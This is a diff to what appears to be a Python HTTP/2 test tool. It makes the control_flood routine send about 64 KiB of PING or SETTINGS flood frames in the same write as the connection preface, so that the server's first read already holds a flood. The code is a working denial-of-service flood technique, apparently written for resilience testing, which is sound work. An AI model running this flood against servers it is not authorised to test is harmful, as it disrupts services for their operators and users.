@@ -418,9 +418,12 @@ async def read_frames(reader: asyncio.StreamReader, reply: H2Reply) -> None:
 
 
 @contextlib.asynccontextmanager
-async def h2_connection(host: str, port: int, *pairs: tuple[int, int], read: bool = True
+async def h2_connection(host: str, port: int, *pairs: tuple[int, int], read: bool = True, first: bytes = b""
                         ) -> AsyncIterator[tuple[asyncio.StreamWriter, H2Reply, asyncio.StreamReader]]:
-    """An HTTP/2 connection with our SETTINGS (``pairs``) sent; frames read in the background."""
+    """An HTTP/2 connection with our SETTINGS (``pairs``) sent; frames read in the background.
+
+    ``first`` goes out in the same write as the preface (so the server's first read holds both).
+    """
     sock = socket.socket()
     if not read:
         # Set before connecting, so the window the kernel advertises stays small.
@@ -428,7 +431,7 @@ async def h2_connection(host: str, port: int, *pairs: tuple[int, int], read: boo
     sock.setblocking(False)
     await asyncio.get_running_loop().sock_connect(sock, (host, port))
     reader, writer = await asyncio.open_connection(sock=sock)
-    writer.write(PREFACE + settings(*pairs) + frame(SETTINGS, ACK, 0))
+    writer.write(PREFACE + settings(*pairs) + frame(SETTINGS, ACK, 0) + first)
     reply = H2Reply()
     task = asyncio.create_task(read_frames(reader, reply)) if read else None
     try:
@@ -521,7 +524,8 @@ async def control_flood(host: str, port: int, kind: str, frames: int, read: bool
         one = frame(PING, 0, 0, b"12345678")
     else:
         one = settings((SETTINGS_INITIAL_WINDOW_SIZE, 65535), (0x3, 100))
-    async with h2_connection(host, port, read=read) as (writer, reply, reader):
+    # The first 64 KiB go with the preface: the read that detects HTTP/2 holds a flood already.
+    async with h2_connection(host, port, read=read, first=one * (65536 // len(one))) as (writer, reply, reader):
         chunk = one * batch
         while sent < frames and await _write(writer, chunk, reply, drain_timeout=1.0):
             sent += batch
